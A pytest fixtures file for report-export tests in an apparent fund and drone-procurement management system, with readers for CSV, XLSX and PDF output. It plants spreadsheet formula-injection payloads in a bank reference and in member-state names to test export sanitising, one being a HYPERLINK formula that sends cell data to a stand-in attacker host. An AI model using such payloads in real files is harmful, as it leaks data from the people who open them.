"""Fixtures and readers for the report tests: money in the fund with every kind
of ledger entry, a tender pipeline with a sealed tender, deliveries, onboarding
cases, and helpers that read a built report back in each format."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from members import services as member_services
from members.models import MemberStatus
from procurement import services as procurement
from procurement.models import Tender
from secretariat.fund.models import Pool
from secretariat.fund.services import disbursements as dsb
from secretariat.fund.services import ledger as fund
from secretariat.reports.services import report_build, report_request
from tests.factories import MemberStateFactory
from tests.procurement.helpers import bid, category, to_tendering
from tests.secretariat.fund_fixtures import receive

TODAY = timezone.localdate()
CENT = Decimal("0.01")
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")'
# One payload per dangerous first character.
PAYLOADS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned"]


def money(value) -> Decimal:
    """A money cell as read back from any format."""
    return Decimal(str(value).replace(",", "")).quantize(CENT)


# ---------------------------------------------------------------- building


def build(actor, kind, fmt):
    """Ask for a report and build it as the worker would."""
    report = report_request(actor=actor, kind=kind, format=fmt)
    built = report_build(report.pk)
    assert built is not None
    assert built.status == "done", built.error
    assert built.progress == 100
    return built


def content_of(report) -> bytes:
    with report.file.open("rb") as handle:
        return handle.read()


def csv_rows(report) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content_of(report).decode("utf-8-sig"))))


def csv_tables(report) -> dict[str, list[dict]]:
    """A CSV of several tables: each under its title, separated by an empty
    line. A CSV of one table is returned under the key ``None``."""
    rows = csv_rows(report)
    if len(rows) > 1 and rows[1] and len(rows[0]) > 1:
        header, *body = rows
        return {None: [dict(zip(header, row, strict=True)) for row in body]}
    tables, index = {}, 0
    while index < len(rows):
        if not rows[index]:
            index += 1
            continue
        title, header = rows[index][0], rows[index + 1]
        index += 2
        body = []
        while index < len(rows) and rows[index]:
            body.append(dict(zip(header, rows[index], strict=True)))
            index += 1
        tables[title] = body
    return tables


def xlsx_workbook(report):
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(content_of(report)))


def xlsx_tables(report) -> dict[str, list[dict]]:
    """Each table's rows as {column label: cell} (cells, to check their type)."""
    workbook = xlsx_workbook(report)
    tables = {}
    for sheet in workbook.worksheets[1:]:
        header = [cell.value for cell in sheet[1]]
        tables[sheet.title] = [
            dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)
        ]
    return tables


def pdf_text(report) -> str:
    from pypdf import PdfReader

    assert content_of(report).startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(content_of(report)))
    return "\n".join(page.extract_text() for page in reader.pages)


def tables(report) -> dict[str, list[dict]]:
    """Rows as {label: plain value} for CSV and XLSX alike (``None`` for an
    empty cell)."""
    if report.format == "csv":
        return {
            title: [
                {k: (v if v != "" else None) for k, v in row.items()} for row in rows
            ]
            for title, rows in csv_tables(report).items()
        }
    return {
        title: [{k: cell.value for k, cell in row.items()} for row in rows]
        for title, rows in xlsx_tables(report).items()
    }


def figures(value) -> str:
    """How the PDF shows an amount."""
    return f"{Decimal(value):,.2f}"


# ---------------------------------------------------------------- data


@pytest.fixture
def money_in(people, latvia, uk, checker, payer):
    """Latvia's money in two pools, the UK's pledge partly received (with a
    hostile bank reference), a commitment, a paid request, a release and an
    adjustment: every kind of ledger entry."""
    receive(people, latvia, "5000000.00")
    receive(people, latvia, "1250000.00", earmark="non_lethal")
    pledge = member_services.pledge_record(
        member_state=uk, actor=people.officer, year=2026,
        amount=Decimal("3333333.33"), currency="EUR",
    )  # fmt: skip
    member_services.contribution_record(
        pledge=pledge, actor=people.finance, amount=Decimal("3000000.00"),
        currency="EUR", received_on=pledge.fx_date, bank_reference=HYPERLINK,
    )  # fmt: skip
    unrestricted = Pool.objects.get(code="unrestricted")
    commitment = fund.commitment_create(
        pool=unrestricted, amount_eur=Decimal("2000000.00"),
        purpose="Contract CTR-2026-001", categories=[category("reconnaissance")],
        actor=people.finance, approval_reference="CTR-2026-001",
    )  # fmt: skip
    request = dsb.disbursement_prepare(
        actor=people.finance, commitment=commitment, payee_name="SIA Drone Works",
        payee_country="LV", payee_iban="LV80BANK0000435195001", payee_bic="HABALV22",
        amount=Decimal("250000.00"), currency="EUR", purpose="Milestone 1",
        categories=[category("reconnaissance")],
    )  # fmt: skip
    dsb.disbursement_submit(request=request, actor=people.finance)
    dsb.disbursement_check(request=request, actor=checker)
    dsb.disbursement_approve(request=request, actor=people.approver_lv)
    dsb.disbursement_mark_paid(
        request=request, actor=payer, payment_order="PO-1",
        bank_reference="-2 BANK", paid_on=TODAY,
    )  # fmt: skip
    small = fund.commitment_create(
        pool=unrestricted, amount_eur=Decimal("100000.00"), purpose="Spares",
        categories=[category("reconnaissance")], actor=people.finance,
    )  # fmt: skip
    fund.commitment_release(commitment=small, actor=people.finance, reason="Unused")
    adjustment = fund.adjustment_request(
        pool=unrestricted, amount_eur=Decimal("-500.00"), reason="Bank charges",
        actor=people.finance,
    )  # fmt: skip
    fund.adjustment_decide(adjustment=adjustment, actor=checker, approve=True)


def new_tender(people, title, quantity=300):
    requirement = procurement.requirement_record(
        actor=people.procurement, title=title, capability=category("reconnaissance"),
        quantity=quantity, specification="Day/night camera", priority="high",
        needed_by=TODAY + dt.timedelta(days=200),
    )  # fmt: skip
    now = timezone.now()
    tender = procurement.tender_create(
        actor=people.procurement, title=title, description="Lot 1",
        requirements=[requirement], pool=Pool.objects.get(code="unrestricted"),
        clarification_deadline=now + dt.timedelta(days=5),
        submission_deadline=now + dt.timedelta(days=10),
        excluded_origins=["RU", "BY", "IR", "KP"],
    )  # fmt: skip
    procurement.lot_add(
        tender=tender, actor=people.procurement, title="Quadcopters",
        capability=category("reconnaissance"), quantity=quantity,
        max_unit_price=Decimal("2000.00"), delivery_from=dt.date(2026, 12, 1),
        delivery_to=dt.date(2027, 3, 1),
    )  # fmt: skip
    return tender


@pytest.fixture
def pipeline(people, contract, bidders):
    """A contracted tender (two opened bids, Latvia's won) and a tender still
    tendering with a sealed bid of the UK's manufacturer."""
    contract, _rep_lv = contract
    _lv, (_maker_gb, rep_gb) = bidders
    sealed = to_tendering(new_tender(people, "Interceptor drones 2026"), people)
    bid(rep_gb, sealed, price="1500.00")
    assert Tender.objects.get(pk=sealed.pk).status == "tendering"
    return contract, sealed


@pytest.fixture
def deliveries(people, contract):
    """Of the contract's 250 drones, 150 delivered and 140 accepted; 100
    delivered and rejected."""
    contract, rep = contract
    first = procurement.delivery_report(
        contract=contract, milestone=contract.milestones.get(number=1), actor=rep,
        quantity=150,
    )  # fmt: skip
    procurement.delivery_decide(
        delivery=first, actor=people.procurement, quantity_accepted=140,
        test_site="Sēlia military training ground", tested_on=TODAY,
    )  # fmt: skip
    second = procurement.delivery_report(
        contract=contract, milestone=contract.milestones.get(number=2), actor=rep,
        quantity=100,
    )  # fmt: skip
    procurement.delivery_decide(
        delivery=second, actor=people.procurement, quantity_accepted=0,
        test_site="Sēlia", tested_on=TODAY,
    )  # fmt: skip
    return contract


@pytest.fixture
def onboarding(people, japan):
    """Japan invited with its checklist overdue; France invited and on time;
    Latvia and the UK members."""
    france = MemberStateFactory(
        country="FR", name="France", status=MemberStatus.PROSPECTIVE
    )
    member_services.member_transition(
        member_state=japan, to_status="invited", actor=people.officer,
        reason="Invited by Latvia's foreign minister",
        due_date=TODAY - dt.timedelta(days=3),
    )  # fmt: skip
    member_services.member_transition(
        member_state=france, to_status="invited", actor=people.officer,
        reason="Invited", due_date=TODAY + dt.timedelta(days=30),
    )  # fmt: skip
    step = japan.onboarding_cases.get().steps.get(kind="acknowledgement")
    member_services.onboarding_step_complete(
        step=step, actor=people.officer, note="Acknowledged"
    )
    return france


@pytest.fixture
def hostile_states(db):
    """Member states whose names a spreadsheet would run as formulas."""
    return [
        MemberStateFactory(country=code, name=name, status=MemberStatus.PROSPECTIVE)
        for code, name in zip(
            ["DE", "IT", "NL", "PL", "SE", "NO"], PAYLOADS, strict=True
        )
    ]
